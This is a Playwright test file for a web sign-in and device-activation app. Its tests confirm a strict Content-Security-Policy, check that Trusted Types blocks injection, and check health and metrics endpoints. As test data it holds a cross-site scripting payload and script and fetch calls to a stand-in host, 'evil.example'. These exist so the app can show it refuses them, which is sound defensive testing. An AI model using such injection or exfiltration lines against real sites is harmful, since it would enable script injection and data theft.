import { expect } from '@playwright/test';
import { activateDevice } from '../flows/activate-device';
import { addDevice } from '../flows/add-device';
import { openDevice } from '../flows/open-device';
import { openSession } from '../flows/open-session';
import { test } from '../fixtures/test';

test('the pages run under a policy without unsafe sources, and none violates it', async ({ page, account, phone }) => {
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error' && !message.text().includes('404')) complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));

  const answer = await page.goto('/sign-in');
  const policy = await answer?.headerValue('content-security-policy');
  expect(policy).toContain("frame-ancestors 'none'");
  expect(policy).toMatch(/script-src [^;]*'nonce-/);
  expect(policy).not.toContain('unsafe-inline');
  expect(policy).not.toContain('unsafe-eval');

  await openSession(page, account);
  await activateDevice(page, phone, 'Work phone');
  await openDevice(page, 'Work phone');
  await page.goto('/profile');
  await page.goto('/authenticator');
  await page.goto('/no/such/page');
  expect(complaints).toEqual([]);
});

test('threat: a text of a person becomes markup or a script — a browser with Trusted Types refuses to run it', async ({
  page,
}) => {
  await page.goto('/sign-in');
  await page.waitForFunction(() => 'trustedTypes' in window);
  const tried = await page.evaluate(() => {
    const script = document.createElement('script');
    const sinks: Record<string, () => unknown> = {
      markup: () => (document.body.innerHTML = '<img src="x" onerror="stolen = 1">'),
      script: () => (script.text = 'stolen = 1'),
      foreign: () => (script.src = 'https://evil.example/stolen.js'),
      uploaded: () => (script.src = '/api/look/logo'),
      policy: () => Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: (text: string) => text }),
    };
    return Object.entries(sinks).map(([name, run]) => {
      try {
        run();
        return `${name} ran`;
      } catch (error) {
        return `${name} ${(error as Error).name}`;
      }
    });
  });
  expect(tried).toEqual(['markup', 'script', 'foreign', 'uploaded', 'policy'].map((name) => `${name} TypeError`));
});

test('what the policy of a page refuses is reported by the browser, and counted', async ({ page, request }) => {
  await page.goto('/sign-in');
  await page.evaluate(() => fetch('https://evil.example/steal').catch(() => null));
  await expect(async () => {
    const figures = await (await request.get('/api/metrics')).text();
    expect(figures).toMatch(/^tessera_policy_violations_total\{directive="connect-src",by="page"\} [1-9]/m);
  }).toPass();
});

test('the operator sees health and figures', async ({ page, account, phone, request }) => {
  const health = await request.get('/api/health');
  expect(health.status()).toBe(200);
  expect(await health.json()).toMatchObject({ status: 'ok', database: 'ok', mail: 'ok', webhook: 'ok' });
  const before = await request.get('/api/metrics');
  expect(before.status()).toBe(200);
  await openSession(page, account);
  await addDevice(page, phone);
  const figures = await (await request.get('/api/metrics')).text();
  expect(figures).not.toBe(await before.text());
  expect(figures).toContain('tessera_outbox_messages{channel="mail",state="dead"} 0');
  expect(figures).toMatch(/^tessera_activations\w*\{[^}]*active[^}]*\} [1-9]/m);
});
